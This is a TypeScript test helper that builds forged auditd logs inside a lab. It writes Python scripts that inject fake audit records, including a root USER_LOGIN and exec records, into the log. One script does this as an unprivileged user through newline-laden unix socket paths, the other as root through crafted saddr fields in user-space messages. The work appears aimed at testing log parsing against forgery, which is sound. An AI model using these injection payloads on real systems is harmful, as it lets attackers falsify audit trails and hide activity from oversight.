import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { rulesForLoginuid, startAuditd } from '../auditd.ts'

/** Where the programs of a forgery lie, so that a recording always says the same. */
const LAIR = '/srv/lair'

/** Stamp of every record that is forged, in seconds: nothing of that time is true. */
export const FORGED_TIME_S = 1_795_210_798
const STAMP = `msg=audit(${FORGED_TIME_S}.000:9999): `

/** Paths of unix sockets that hold lines of a log. At most 108 bytes, as bytes of Latin-1. */
const PATHS: readonly string[] = [
  `/x\ntype=USER_LOGIN ${STAMP}pid=1 uid=0 auid=0 ses=1 res=success\n`,
  `/x\ntype=SYSCALL ${STAMP}arch=c000003e syscall=59 success=yes pid=7 exe="/f"\n`,
  `/x\ntype=EXECVE ${STAMP}argc=1 a0="/f"`,
  `/x\ntype=EOE ${STAMP}\ntype=PROCTITLE ${STAMP}x\n`,
  `/x\n\x1dSADDR={ saddr_fam=local path=/y\ntype=EOE ${STAMP}`,
  `/x }\n }\ntype=EOE ${STAMP}\n }\n`,
  `\n\n\ntype=EOE ${STAMP}\r\n\xff\n`,
  `\0x\ntype=EOE ${STAMP}\0\n`,
]
/** Addresses of another family that auditd writes as they are, and what no process should do. */
const X25 = '\x09\0a\nb\nc\nd\n'

/** What root sends in the text of its own records. */
const CLAIMS = PATHS.slice(0, 2)

/** How many forged records stand in an ENRICHED log. */
export const FORGED_RECORDS = [...PATHS, ...CLAIMS].join('').split(STAMP).length - 1

const list = (texts: readonly string[]): string =>
  texts.map((text) => `bytes.fromhex('${Buffer.from(text, 'latin1').toString('hex')}'),`).join('\n  ')

/** Connects to each address, then to an ordinary one, of which the log must tell. */
const FORGE = `import ctypes, socket
libc = ctypes.CDLL(None)
for address in [
  ${list([...PATHS.map((path) => `\x01\0${path}`), X25, '\x01\0/tmp/ordinary\0\n\n'])}
]:
    libc.connect(libc.socket(1, 1, 0), address, len(address))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 4444))
`

/** Sends records of user space with fields that auditd takes for addresses. */
const CLAIM = `import ctypes, socket
audit = ctypes.CDLL('libaudit.so.1')
records = audit.audit_open()
for path in [
  ${list(CLAIMS)}
]:
    text = b'op=login saddr=' + (b'\\x01\\0' + path).hex().encode() + b' id=0'
    assert audit.audit_log_user_message(records, 1112, text, None, None, None, 1) > 0
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('127.0.0.1', 4445))
`

/** Rules that record what the programs do. */
const RULES = ['execve -F success=1', 'connect'].map((call) => `-a always,exit -F arch=b64 -S ${call}`)

/**
 * What auditd writes when an unprivileged process forges by addresses, and then root by records of its own.
 * @throws Error when the programs fail
 */
export async function logOfForgery(logFormat: 'ENRICHED' | 'RAW'): Promise<Buffer> {
  const lab = await startAuditd({ logFormat, rules: rulesForLoginuid(RULES.join('\n')) })
  try {
    // Only whoever has the lab may be here.
    mkdirSync(LAIR)
    const [forger, claimer] = [join(LAIR, 'forge.py'), join(LAIR, 'claim.py')]
    writeFileSync(forger, FORGE)
    writeFileSync(claimer, CLAIM)
    const asNobody = 'setpriv --reuid=nobody --regid=nogroup --clear-groups'
    const { status, stderr } = await lab.run(
      `${asNobody} /usr/bin/python3 -B ${forger}; exec /usr/bin/python3 -B ${claimer}`,
    )
    if (status !== 0 || stderr !== '') throw new Error(`the forgery went wrong: ${stderr}`)
    await lab.settle()
    return readFileSync(lab.logFile)
  } finally {
    rmSync(LAIR, { recursive: true, force: true })
    await lab.stop()
  }
}
